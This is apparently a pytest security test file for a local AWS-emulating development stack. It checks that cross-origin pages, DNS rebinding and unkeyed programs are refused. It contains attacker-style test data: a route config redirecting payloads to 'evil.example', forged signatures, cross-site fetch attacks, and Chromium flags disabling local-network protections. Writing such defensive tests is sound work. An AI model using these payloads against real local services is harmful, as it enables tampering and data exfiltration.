"""`groupage local` is for its owner's programs alone: web pages in a real browser try to use it, and so do programs
that do not know the key. Beside them, what docs/guides/laptop.md says of boto3, the AWS CLI, curl and the browser still
works."""

import json
import shutil
import stat
import subprocess
import threading
from contextlib import contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError
from playwright.sync_api import sync_playwright

from local import local_stack
from stack import AWS_CLI, GROUPAGE

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

ROUTES = """
version: 1
routes: [{ name: parcels, when: truck, target: truck, downstream: pull }]
"""

FOREIGN = "version: 1\nroutes: [{ name: all, when: '@', target: '`x`', downstream: { http: { url: 'http://evil.example/' } } }]"
"""Routes with which every payload would go to the attacker."""

SIGNED = "AWS4-HMAC-SHA256 Credential=test/20261124/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0"
"""A signature as an attacker can write it: the embedded servers do not look whether it is right."""

NAMES = ["evil.example", "127.0.0.1", "localhost"]
"""Under which the attacker's page is shown: another site, and other ports of the same host."""


class Page(BaseHTTPRequestHandler):
    """The attacker's own server."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A harmless page</title>")

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def local(tmp_path_factory):
    folder = tmp_path_factory.mktemp("local")
    with local_stack(folder, ROUTES) as environment:
        yield environment | {"folder": str(folder)}


@pytest.fixture(scope="module")
def page_port():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()


@pytest.fixture(scope="module")
def browser():
    assert CHROMIUM, "the tests need Chromium: install Debian's package chromium"
    # Every name is this machine: what a rebinding attack needs hours of patience for is so from the start.
    # Chromium has begun to ask people before a page reaches loopback; other browsers have not, so it does not either
    # here.
    arguments = [
        "--no-sandbox", "--no-proxy-server", "--host-resolver-rules=MAP *.example 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebRTC,BlockInsecurePrivateNetworkRequests",
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


def client(local: dict, service: str, **changed):
    known = {"aws_access_key_id": local["AWS_ACCESS_KEY_ID"], "aws_secret_access_key": local["AWS_SECRET_ACCESS_KEY"]}
    return boto3.client(
        service, region_name=local["AWS_REGION"], endpoint_url=local[f"AWS_ENDPOINT_URL_{service.upper()}"],
        config=Config(proxies={}, retries={"total_max_attempts": 1}), **(known | changed),
    )


def state(local: dict) -> dict:
    """All that an attacker could want to change."""
    sqs, dynamodb = client(local, "sqs"), client(local, "dynamodb")
    counts = ["ApproximateNumberOfMessages", "ApproximateNumberOfMessagesNotVisible", "ApproximateNumberOfMessagesDelayed"]
    urls = sqs.list_queues()["QueueUrls"]
    messages = {url: sqs.get_queue_attributes(QueueUrl=url, AttributeNames=counts)["Attributes"] for url in urls}
    tables = dynamodb.list_tables()["TableNames"]
    items = {name: dynamodb.scan(TableName=name)["Items"] for name in tables if not name.endswith("-locks")}
    return {"messages": messages, "items": items}


def attacks(local: dict) -> dict[str, dict]:
    """Requests that would do harm, by name: address, and what `fetch` is given."""
    dynamodb, sqs, api = (local[name] for name in (
        "AWS_ENDPOINT_URL_DYNAMODB", "AWS_ENDPOINT_URL_SQS", "GROUPAGE_API_URL"))
    item = {"Name": {"S": "routes"}, "Yaml": {"S": FOREIGN}}
    put = json.dumps({"TableName": local["GROUPAGE_ROUTE_TABLE"], "Item": item})
    message = json.dumps({"QueueUrl": local["GROUPAGE_TASK_QUEUE"], "MessageBody": '{"id":"evil","payload":{"truck":"t"}}'})
    task = json.dumps({"tasks": [{"id": "evil", "payload": {"truck": "t"}}]})

    def aws(target: str) -> dict:
        return {"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": target, "X-Amz-Date": "20261124T000000Z"}

    def post(url: str, body: str, headers: dict, mode: str = "cors") -> dict:
        return {"url": url, "options": {"method": "POST", "body": body, "headers": headers, "mode": mode}}

    write, text = aws("DynamoDB_20120810.PutItem"), {"Content-Type": "text/plain"}
    return {
        "route table, signed by nobody": post(dynamodb, put, write | {"Authorization": SIGNED}),
        "route table, unsigned": post(dynamodb, put, write),
        "route table, as a form would": post(dynamodb, put, text, "no-cors"),
        "SQS, list queues": post(sqs, "{}", aws("AmazonSQS.ListQueues") | {"Authorization": SIGNED}),
        "SQS, send": post(sqs, message, aws("AmazonSQS.SendMessage")),
        "SQS, as a form would": post(sqs, message, text, "no-cors"),
        "API, send tasks": post(f"{api}/tasks", task, {"Content-Type": "application/json"}),
        "API, as a form would": post(f"{api}/tasks", task, text, "no-cors"),
        "API, read": {"url": f"{api}/tasks/evil", "options": {"method": "GET", "mode": "no-cors"}},
    }


FETCH = """async ({url, options}) => {
    try { const answer = await fetch(url, options); return {status: answer.status, text: await answer.text()}; }
    catch (error) { return {status: 0, text: String(error)}; }
}"""


@contextmanager
def attacker(browser, address: str, local: dict):
    """The attacker's page at this address, and the statuses of what the stack answered to it."""
    answered = []
    ports = {urlsplit(local[name]).port for name in (
        "AWS_ENDPOINT_URL_DYNAMODB", "AWS_ENDPOINT_URL_SQS", "GROUPAGE_API_URL")}

    def note(response):
        if urlsplit(response.url).port in ports and urlsplit(response.url).path != "/page":
            answered.append((response.request.method, response.url, response.status))

    page = browser.new_page()
    page.on("response", note)
    page.goto(address)
    yield page, answered
    page.close()


@pytest.mark.parametrize("name", NAMES)
def test_a_page_of_another_origin_neither_changes_nor_reads_anything(browser, local, page_port, name, report):
    before = state(local)
    with attacker(browser, f"http://{name}:{page_port}/", local) as (page, answered):
        for attack, request in attacks(local).items():
            seen = page.evaluate(FETCH, request)
            # 0: the browser keeps the answer from the page.
            assert (seen["status"], seen["text"][:5]) in [(0, ""), (0, "TypeE")], f"{attack}: {seen}"
    assert answered and all(status in (401, 403) for _, _, status in answered), answered
    assert state(local) == before
    report.append(f"browser: a page at http://{name}:{page_port} made {len(attacks(local))} attempts: all refused")


@pytest.mark.parametrize("endpoint", ["AWS_ENDPOINT_URL_DYNAMODB", "AWS_ENDPOINT_URL_SQS", "GROUPAGE_API_URL"])
def test_a_name_that_was_pointed_here_is_refused(browser, local, endpoint, report):
    """DNS rebinding: to the browser, the page and the stack are one origin, so that page may send and read anything."""
    port = urlsplit(local[endpoint]).port
    before = state(local)
    page = browser.new_page()
    page.route("**/page", lambda route: route.fulfill(content_type="text/html", body="<!doctype html>"))
    page.goto(f"http://rebound.example:{port}/page")
    tried = 0
    for attack, request in attacks(local).items():
        if urlsplit(request["url"]).port == port:
            path = urlsplit(request["url"]).path or "/"
            seen = page.evaluate(FETCH, {"url": path, "options": request["options"] | {"mode": "same-origin"}})
            assert seen["status"] == 403 and "Host" in seen["text"], f"{attack}: {seen}"
            tried += 1
    page.close()
    assert tried >= 3
    assert state(local) == before
    report.append(f"browser: rebound.example pointed to {endpoint}: {tried} attempts, all refused")


@pytest.mark.parametrize("headers", [
    {"Host": "evil.example"},
    {"Origin": "http://evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
], ids=lambda headers: next(iter(headers)))
def test_the_key_does_not_open_to_others_what_is_for_the_owner(local, headers):
    signature = f"AWS4-HMAC-SHA256 Credential={local['AWS_ACCESS_KEY_ID']}/20261124/us-east-1/x/aws4_request, Signature=0"
    bearer = f"Bearer {local['GROUPAGE_API_TOKEN']}"
    for name, key in [("AWS_ENDPOINT_URL_DYNAMODB", signature), ("AWS_ENDPOINT_URL_SQS", signature), ("GROUPAGE_API_URL", bearer)]:
        connection = HTTPConnection(urlsplit(local[name]).netloc)
        connection.request("GET", "/trackers/nobody", headers={"Authorization": key} | headers)
        answer = connection.getresponse()
        assert answer.status == 403, name
        assert not [header for header, _ in answer.getheaders() if header.lower().startswith("access-control-")], name


@pytest.mark.parametrize("service", ["dynamodb", "sqs"])
def test_a_program_without_the_key_is_refused(local, service):
    unsigned = client(local, service, aws_access_key_id="test", aws_secret_access_key="test")
    operation = {"dynamodb": "list_tables", "sqs": "list_queues"}[service]
    with pytest.raises(ClientError) as refused:
        getattr(unsigned, operation)()
    assert refused.value.response["Error"]["Code"] == "UnrecognizedClientException"
    assert "data folder" in refused.value.response["Error"]["Message"]


def test_boto3_with_the_environment_lines_works(local):
    assert local["GROUPAGE_TASK_TABLE"] in client(local, "dynamodb").list_tables()["TableNames"]
    assert local["GROUPAGE_TASK_QUEUE"] in client(local, "sqs").list_queues()["QueueUrls"]


def test_the_aws_cli_with_the_environment_lines_works(local, tmp_path):
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "NO_PROXY": "*"} | local

    def ask(*words):
        return json.loads(subprocess.check_output([AWS_CLI, "--output", "json", *words], env=environment))

    assert local["GROUPAGE_TASK_TABLE"] in ask("dynamodb", "list-tables")["TableNames"]
    # Version 1 takes an address of its own for SQS, whatever the environment says; version 2 does not.
    queues = ask("sqs", "list-queues", "--endpoint-url", local["AWS_ENDPOINT_URL_SQS"])
    assert local["GROUPAGE_TASK_QUEUE"] in queues["QueueUrls"]


def test_curl_with_the_token_works_and_without_it_is_told_what_is_missing(local):
    def curl(*words):
        return subprocess.check_output(["curl", "--noproxy", "*", "-s", *words], text=True)

    tasks = f"{local['GROUPAGE_API_URL']}/tasks/nobody"
    with_token = curl("-H", f"Authorization: Bearer {local['GROUPAGE_API_TOKEN']}", tasks)
    assert json.loads(with_token)["status"] == 404
    without = json.loads(curl(tasks))
    assert without["status"] == 401 and "no key" in without["detail"]


def test_a_person_can_read_the_description_in_a_browser(browser, local):
    page = browser.new_page()
    answer = page.goto(f"{local['GROUPAGE_API_URL']}/openapi.json")
    assert answer.status == 200 and answer.json()["openapi"].startswith("3.1")
    page.close()


def test_the_folder_and_its_files_are_their_owners_alone(local):
    folder = Path(local["folder"])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    ours = [file for file in folder.iterdir() if file.name not in ("routes.yaml", "output")]
    assert {file.name for file in ours} >= {"dynamodb.sqlite", "queues.sqlite", "env", "key", "lock"}
    open_ones = [file.name for file in ours if stat.S_IMODE(file.stat().st_mode) & 0o077]
    assert not open_ones


def test_a_second_process_is_told_who_has_the_folder(local):
    command = [GROUPAGE, "local", "--data", local["folder"], "--dynamodb-port", "0", "--sqs-port", "0", "--http-port", "0"]
    second = subprocess.run(command, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    assert second.returncode != 0
    assert local["folder"] in second.stderr and "in use by process" in second.stderr, second.stderr
